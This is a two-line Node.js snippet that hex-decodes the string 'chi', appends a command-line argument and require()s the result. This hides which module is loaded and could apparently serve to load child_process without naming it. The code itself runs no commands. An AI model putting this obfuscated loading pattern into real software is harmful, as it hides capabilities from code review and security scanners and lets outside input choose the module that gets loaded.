const name = Buffer.from('636869', 'hex').toString() + process.argv[2];
module.exports = require(name);
